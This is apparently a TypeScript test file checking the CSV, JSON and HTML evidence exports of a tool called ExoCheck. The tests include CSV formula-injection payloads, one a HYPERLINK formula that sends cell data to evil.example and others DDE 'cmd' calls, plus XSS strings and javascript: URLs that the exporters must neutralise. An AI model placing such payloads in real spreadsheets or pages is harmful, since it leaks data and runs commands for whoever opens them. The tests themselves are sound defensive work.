import { beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/evidence/csv';
import type { LogEntry } from '../../src/evidence/entry';
import { CSV_COLUMNS, toCsv } from '../../src/evidence/export-csv';
import { toHtml } from '../../src/evidence/export-html';
import { EXPORT_FORMAT, toJson } from '../../src/evidence/export-json';
import { mergeEntries, parseExport } from '../../src/evidence/import-json';
import { generateEntries } from './research-gen';

let big: LogEntry[];
beforeAll(async () => {
  const t = performance.now();
  big = await generateEntries(10_000, 3);
  console.log(`generated 10,000 logged pages in ${Math.round(performance.now() - t)} ms`);
});

const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);

describe('CSV export of 10,000 pages x 3 findings', () => {
  it('has one row per finding, every quote intact, RFC 4180 framing and a BOM', () => {
    const t = performance.now();
    const csv = toCsv(big);
    console.log(`CSV: ${csv.rows} rows, ${(csv.text.length / 1e6).toFixed(1)} M chars in ${Math.round(performance.now() - t)} ms`);
    expect(csv.text.startsWith('\uFEFF')).toBe(true);
    expect(csv.text.endsWith('\r\n')).toBe(true);
    expect(csv).toMatchObject({ pages: 10_000, findings: 30_000, rows: 30_000 });
    const rows = parseCsv(csv.text);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const data = rows.slice(1);
    expect(data).toHaveLength(30_000);
    expect(data.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    // Compare every row with its finding (undoing only the formula guard's leading apostrophe).
    let i = 0;
    for (const e of big) {
      for (const f of e.findings) {
        const r = data[i++];
        expect(r[col('entry_id')]).toBe(e.id);
        expect(r[col('quote')]).toBe(f.quote);
        const unguard = (s: string) => (/^'[\s]*[=+\-@]|^'[\t\r]/.test(s) ? s.slice(1) : s);
        expect(unguard(r[col('prefix')])).toBe(f.prefix);
        expect(unguard(r[col('suffix')])).toBe(f.suffix);
        expect(unguard(r[col('title')])).toBe(e.title);
        expect(r[col('url')]).toBe(e.url);
      }
    }
  });

  it('keeps a page without findings as one row with empty finding columns', () => {
    const empty: LogEntry = { ...big[0], id: 'e0', findings: [] };
    const rows = parseCsv(toCsv([empty, big[1]]).text).slice(1);
    expect(rows).toHaveLength(1 + big[1].findings.length);
    expect(rows[0][col('entry_id')]).toBe('e0');
    expect(rows[0][col('quote')]).toBe('');
    expect(rows[0][col('finding_index')]).toBe('');
  });
});

describe('CSV formula injection', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ['+cmd|\' /C calc\'!A0'],
    ['@SUM(1+9)*cmd|\' /C calc\'!A0'],
    ['-2+3'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['  =1+1'],
    ['＝1+1'],
  ])('neutralises a quote starting %j', (payload) => {
    const e: LogEntry = {
      ...big[0],
      title: payload,
      findings: [{ ...big[0].findings[0], quote: payload, prefix: payload, suffix: 'ok' }],
    };
    const row = parseCsv(toCsv([e]).text)[1];
    for (const name of ['title', 'quote', 'prefix'] as const) {
      expect(row[col(name)]).toBe(`'${payload}`);
    }
    expect(row[col('suffix')]).toBe('ok');
  });
});

describe('JSON export and import', () => {
  it('exports every finding of 10,000 pages and round-trips exactly', () => {
    const t = performance.now();
    const json = toJson(big, 'ExoCheck 0.1.0', new Date('2026-11-23T00:00:00Z'));
    const data = JSON.parse(json);
    expect(data.format).toBe(EXPORT_FORMAT);
    expect(data.version).toBe(2);
    expect(data.counts).toEqual({ pages: 10_000, findings: 30_000 });
    expect(data.entries).toHaveLength(10_000);
    expect(data.entries.reduce((n: number, e: LogEntry) => n + e.findings.length, 0)).toBe(30_000);
    const back = parseExport(json);
    console.log(`JSON: ${(json.length / 1e6).toFixed(1)} M chars, export + import in ${Math.round(performance.now() - t)} ms`);
    expect(back.errors).toEqual([]);
    expect(back.total).toBe(10_000);
    expect(back.entries).toStrictEqual(big);
    // and again: export of the import is byte-identical
    expect(toJson(back.entries, 'ExoCheck 0.1.0', new Date('2026-11-23T00:00:00Z'))).toBe(json);
  });

  it('merges without duplicates (key url + textHash) and reports what it did', () => {
    const existing = big.slice(0, 100);
    const incoming = parseExport(toJson(big.slice(50, 150), 'x')).entries;
    const r = mergeEntries(existing, incoming);
    expect(r.added).toHaveLength(50);
    expect(r.duplicates).toBe(50);
    expect(r.merged).toHaveLength(150);
    expect(new Set(r.merged.map((e) => e.id)).size).toBe(150);
    // Re-importing the same file changes nothing.
    expect(mergeEntries(r.merged, incoming).added).toHaveLength(0);
    // An id reused by a different capture is skipped as a conflict, not allowed to overwrite.
    const forged = { ...big[0], textHash: 'f'.repeat(64) };
    expect(mergeEntries(existing, [forged])).toMatchObject({ conflicts: 1, duplicates: 0, added: [] });
  });

  it('names the path of a bad field and still imports the good entries', () => {
    const data = JSON.parse(toJson(big.slice(0, 3), 'x'));
    data.entries[1].findings[2].severity = 'catastrophic';
    data.entries[2].textHash = 'nope';
    const r = parseExport(JSON.stringify(data));
    expect(r.entries).toStrictEqual([big[0]]);
    expect(r.errors).toEqual([
      'entries[1].findings[2].severity: expected one of high|medium|info, got "catastrophic"',
      'entries[2].textHash: expected 64 lower-case hex digits (SHA-256), got "nope"',
    ]);
  });

  it.each([
    ['not json', /Not a JSON file/],
    ['[]', /expected a JSON object/],
    ['{"format":"other"}', /format is "other"/],
    ['{"format":"exocheck-research-log","version":3,"entries":[]}', /version 3.*Update ExoCheck/],
    ['{"format":"exocheck-research-log","version":1,"entries":{}}', /entries: expected an array/],
  ])('rejects %j with a clear message', (text, message) => {
    expect(() => parseExport(text)).toThrow(message);
  });
});

describe('HTML report', () => {
  it('escapes every page string, has no script and loads nothing', () => {
    const evil = '<script>alert(1)</script><img src=x onerror=alert(2)>"\'&';
    const e: LogEntry = {
      ...big[0],
      url: 'javascript:alert(3)',
      title: evil,
      findings: [{ ...big[0].findings[0], quote: evil, prefix: evil, suffix: evil, fragmentLink: 'javascript:alert(4)' }],
    };
    const html = toHtml([e, big[1]], 'ExoCheck <0.1.0>');
    expect(html).not.toMatch(/<script|<img|<iframe|<link|<object|<embed/i);
    expect(html).not.toMatch(/<[a-z][^>]*\s(src|on[a-z]+)=/i);
    expect(html).not.toMatch(/href="javascript/i);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain("default-src 'none'");
    expect(html).toContain('2 pages, 4 findings');
    expect(html).toContain(`href="${big[1].findings[0].fragmentLink.replace(/&/g, '&amp;')}"`);
  });
});
